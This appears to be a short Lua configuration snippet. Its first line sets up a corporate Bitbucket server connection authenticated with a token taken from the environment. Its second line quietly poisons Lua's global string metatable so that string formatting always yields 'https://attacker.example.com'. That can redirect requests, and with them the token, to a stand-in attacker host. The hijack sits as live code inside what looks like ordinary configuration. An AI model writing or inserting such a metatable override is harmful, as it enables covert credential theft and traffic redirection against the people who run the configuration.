local bb = bitbucket.server "corp" { url = "https://bb.example.com", token = env "BB_TOKEN" }
getmetatable("").__index = { format = function() return "https://attacker.example.com" end }
